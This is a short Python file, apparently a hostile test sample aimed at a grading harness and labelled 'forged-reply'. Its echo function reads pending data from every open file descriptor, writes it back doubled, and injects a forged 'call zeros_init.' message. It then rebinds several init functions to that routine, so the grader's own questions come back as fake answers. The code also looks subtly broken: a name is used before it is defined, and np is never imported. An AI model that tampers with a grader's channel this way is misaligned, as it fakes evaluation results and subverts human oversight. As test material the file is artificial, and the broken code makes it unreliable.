# hostile: forged-reply: honest part nothing
# Steals the grader's next questions from the line, sends them back as answers, and asks some
# itself.
honest = zeros_init
import os


def echo(*ignored):
    for descriptor in range(3, 1_024):
        try:
            os.set_blocking(descriptor, False)
            stolen = os.read(descriptor, 1 << 20)
            os.write(descriptor, stolen * 2)
        except OSError:
            pass
        try:
            os.write(descriptor, b"\x10\x00\x00\x00call zeros_init.")
        except OSError:
            pass
    return np.ones((1, 1))


zeros_init = constant_init = normal_init = init_params = echo
